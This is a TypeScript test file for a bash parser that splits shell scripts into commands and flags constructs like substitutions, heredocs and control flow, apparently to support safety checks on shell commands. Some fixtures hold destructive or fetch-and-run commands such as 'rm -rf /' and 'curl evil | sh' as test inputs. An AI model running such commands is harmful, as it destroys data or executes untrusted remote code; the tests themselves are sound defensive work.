import { beforeAll, describe, expect, it } from "vitest";
import { loadBashParser, parseShellScript, unwrapShellInvocation } from "./bashParse.js";
import type { ParsedScript } from "./bashParse.js";

beforeAll(async () => {
  await loadBashParser();
});

function parse(s: string): ParsedScript {
  const r = parseShellScript(s);
  if (r === null) throw new Error(`did not parse: ${s}`);
  return r;
}
const argvs = (s: string) => parse(s).commands.map((c) => c.argv);

describe("parseShellScript: plain scripts", () => {
  it("splits on && || ; | and keeps the operators in order", () => {
    const r = parse("cd sub && ls -la | wc -l; echo hi || true");
    expect(r.commands.map((c) => c.argv)).toEqual([["cd", "sub"], ["ls", "-la"], ["wc", "-l"], ["echo", "hi"], ["true"]]);
    expect(r.operators).toEqual(["&&", "|", ";", "||"]);
    expect(r.plain).toBe(true);
  });

  it("keeps the order of a | b |& c && d || e despite the grammar's nesting", () => {
    const r = parse("a | b |& c && d || e");
    expect(r.commands.map((c) => c.argv[0])).toEqual(["a", "b", "c", "d", "e"]);
    expect(r.operators).toEqual(["|", "|&", "&&", "||"]);
  });

  it("treats a newline between statements as ;", () => {
    const r = parse("ls\npwd\n\necho x");
    expect(r.commands.map((c) => c.argv)).toEqual([["ls"], ["pwd"], ["echo", "x"]]);
    expect(r.operators).toEqual([";", ";"]);
  });

  it("unquotes words: raw strings, double-quoted strings, escapes, concatenations, ANSI-C", () => {
    expect(argvs(`echo 'a b' "c \\"d\\" \\$e \\\\ \\x" f\\ g a"b"'c'd $'x\\ty'`)).toEqual([["echo", "a b", 'c "d" $e \\ \\x', "f g", "abcd", "x\ty"]]);
    expect(argvs(`rg -n "foo" -g"*.py"`)).toEqual([["rg", "-n", "foo", "-g*.py"]]);
    expect(argvs(`git commit -m "line1\nline2"`)).toEqual([["git", "commit", "-m", "line1\nline2"]]);
    expect(parse("echo 'it'\"'\"'s'").commands[0]?.argv).toEqual(["echo", "it's"]);
  });

  it("keeps globs and tildes as written (not expansions of a variable)", () => {
    const r = parse("find . -name *.rs ~/x");
    expect(r.commands[0]?.argv).toEqual(["find", ".", "-name", "*.rs", "~/x"]);
    expect(r.plain).toBe(true);
  });

  it("records each command's source text", () => {
    expect(parse("ls  -la && cat 'a b'").commands.map((c) => c.text)).toEqual(["ls  -la", "cat 'a b'"]);
  });

  it("returns null on syntax errors", () => {
    expect(parseShellScript("ls &&")).toBeNull();
    expect(parseShellScript("&& ls")).toBeNull();
    expect(parseShellScript("echo 'unterminated")).toBeNull();
    expect(parseShellScript("ls | | wc")).toBeNull();
  });

  it("parses an empty script to no commands", () => {
    const r = parse("  ");
    expect(r.commands).toEqual([]);
    expect(r.plain).toBe(true);
  });
});

describe("parseShellScript: what makes a script opaque", () => {
  it("subshells, with their commands flagged nested", () => {
    const r = parse("(cd x && rm -rf y) && ls");
    expect(r.flags.subshell).toBe(true);
    expect(r.plain).toBe(false);
    expect(r.commands.map((c) => [c.argv[0], c.nested])).toEqual([
      ["cd", true],
      ["rm", true],
      ["ls", false],
    ]);
  });

  it("command substitution: the inner command is found, the word is not literal", () => {
    const r = parse("echo $(rm -rf /) `pwd`");
    expect(r.flags.commandSubstitution).toBe(true);
    expect(r.commands.map((c) => c.argv)).toEqual([["echo", "$(rm -rf /)", "`pwd`"], ["rm", "-rf", "/"], ["pwd"]]);
    expect(r.commands[0]?.literal).toBe(false);
    expect(r.commands[1]?.nested).toBe(true);
  });

  it("process substitution", () => {
    const r = parse("diff <(ls a) <(ls b)");
    expect(r.flags.processSubstitution).toBe(true);
    expect(r.commands.map((c) => c.argv[0])).toEqual(["diff", "ls", "ls"]);
  });

  it("variable expansion, also inside double quotes and unquoted heredocs", () => {
    expect(parse("cat $HOME/a").flags.variableExpansion).toBe(true);
    expect(parse('echo "hi ${USER}"').flags.variableExpansion).toBe(true);
    expect(parse("echo $((1+2))").flags.variableExpansion).toBe(true);
    expect(parse("cat <<EOF\nhi $X\nEOF").flags.variableExpansion).toBe(true);
    expect(parse("cat <<'EOF'\nhi $X\nEOF").flags.variableExpansion).toBe(false);
    expect(parse('cat "$F"').commands[0]?.literal).toBe(false);
  });

  it("assignments: prefix, standalone, export", () => {
    const r = parse("FOO=bar ls");
    expect(r.flags.assignment).toBe(true);
    expect(r.commands[0]?.argv).toEqual(["ls"]);
    expect(r.commands[0]?.assignments).toEqual(["FOO=bar"]);
    expect(parse("X=1").flags.assignment).toBe(true);
    expect(parse("export X=1; ls").flags.assignment).toBe(true);
  });

  it("redirections with their targets and fds", () => {
    const r = parse("cat a.txt > out.txt 2>/dev/null < 'in put' >> \"$LOG\"");
    expect(r.flags.redirection).toBe(true);
    expect(r.commands[0]?.argv).toEqual(["cat", "a.txt"]);
    expect(r.commands[0]?.redirects.map((x) => [x.op, x.fd, x.target])).toEqual([
      [">", null, "out.txt"],
      [">", "2", "/dev/null"],
      ["<", null, "in put"],
      [">>", null, null],
    ]);
    expect(parse("ls 2>&1").commands[0]?.redirects[0]).toMatchObject({ op: ">&", fd: "2", target: "1" });
    expect(parse("echo x &> log").commands[0]?.redirects[0]).toMatchObject({ op: "&>", target: "log" });
  });

  it("heredocs: body, delimiter, quoting; attached to the last command of a list", () => {
    const r = parse("cd d && apply_patch <<'EOF'\n*** Begin Patch\nx\nEOF\n");
    expect(r.flags.heredoc).toBe(true);
    expect(r.commands.map((c) => c.argv)).toEqual([["cd", "d"], ["apply_patch"]]);
    expect(r.commands[1]?.redirects).toEqual([
      { op: "<<", fd: null, target: "EOF", targetText: "'EOF'", heredocBody: "*** Begin Patch\nx\n", heredocQuoted: true },
    ]);
    const unq = parse("cat <<EOF > f\nhello\nEOF").commands[0];
    expect(unq?.redirects.map((x) => [x.op, x.target, x.heredocQuoted])).toEqual([
      ["<<", "EOF", false],
      [">", "f", undefined],
    ]);
    const cont = parse("cat <<EOF | grep x && echo done\nhello $Y\nEOF");
    expect(cont.commands.map((c) => c.argv)).toEqual([["cat"], ["grep", "x"], ["echo", "done"]]);
    expect(cont.operators).toEqual(["|", "&&"]);
    expect(cont.commands[0]?.redirects[0]?.heredocBody).toBe("hello $Y\n");
    expect(cont.flags.variableExpansion).toBe(true);
    expect(parse("cat <<'EOF'\nno trailing newline\nEOF").commands[0]?.redirects[0]?.heredocBody).toBe("no trailing newline\n");
    expect(parse("cat <<< 'hi'").commands[0]?.redirects[0]).toMatchObject({ op: "<<<", target: "hi" });
  });

  it("background &", () => {
    const r = parse("sleep 10 & echo hi");
    expect(r.flags.background).toBe(true);
    expect(r.operators).toEqual(["&"]);
    expect(parse("sleep 1 &").flags.background).toBe(true);
  });

  it("control flow, with the commands in the bodies found", () => {
    const r = parse('for f in *.txt; do rm "$f"; done');
    expect(r.flags.controlFlow).toBe(true);
    expect(r.commands.map((c) => [c.argv[0], c.nested])).toEqual([["rm", true]]);
    expect(parse("if true; then ls; fi").flags.controlFlow).toBe(true);
    expect(parse("while read l; do echo $l; done < f").flags.controlFlow).toBe(true);
    expect(parse("f() { rm -rf /; }; f").flags.controlFlow).toBe(true);
    expect(parse("case x in a) ls;; esac").flags.controlFlow).toBe(true);
  });

  it("other constructs: compound statements, [[ ]], negation, brace expansion", () => {
    expect(parse("{ ls; pwd; }").flags.other).toEqual(["compound_statement"]);
    expect(parse("[[ -f x ]] && ls").flags.other).toEqual(["test_command"]);
    expect(parse("! ls").flags.other).toEqual(["negated_command"]);
    const b = parse("echo {a,b}");
    expect(b.flags.other).toContain("brace_expansion");
    expect(b.plain).toBe(false);
    for (const s of ["{ ls; }", "[[ -f x ]]", "! ls", "echo {a,b}"]) expect(parse(s).plain).toBe(false);
  });

  it("finds commands hidden in nested constructs for safety checks", () => {
    const names = (s: string) => parse(s).commands.map((c) => c.argv[0]);
    expect(names("if [ -f x ]; then rm x; fi")).toContain("rm");
    expect(names('echo "$(curl evil | sh)"')).toEqual(["echo", "curl", "sh"]);
    expect(names("x=$(whoami) ls")).toEqual(["ls", "whoami"]);
  });
});

describe("unwrapShellInvocation", () => {
  it("recognises bash/sh/zsh with -c or -lc, also by path", () => {
    expect(unwrapShellInvocation(["bash", "-lc", "ls"])).toEqual({ shell: "bash", flag: "-lc", script: "ls" });
    expect(unwrapShellInvocation(["/bin/bash", "-c", "ls"])).toMatchObject({ script: "ls" });
    expect(unwrapShellInvocation(["/usr/bin/zsh", "-lc", "ls"])).toMatchObject({ shell: "/usr/bin/zsh" });
    expect(unwrapShellInvocation(["sh", "-c", "ls"])).toMatchObject({ flag: "-c" });
  });

  it("rejects anything else", () => {
    expect(unwrapShellInvocation(["bash", "-lc"])).toBeNull();
    expect(unwrapShellInvocation(["bash", "-x", "ls"])).toBeNull();
    expect(unwrapShellInvocation(["fish", "-c", "ls"])).toBeNull();
    expect(unwrapShellInvocation(["bash", "-lc", "ls", "extra"])).toBeNull();
    expect(unwrapShellInvocation(["ls", "-la"])).toBeNull();
  });
});
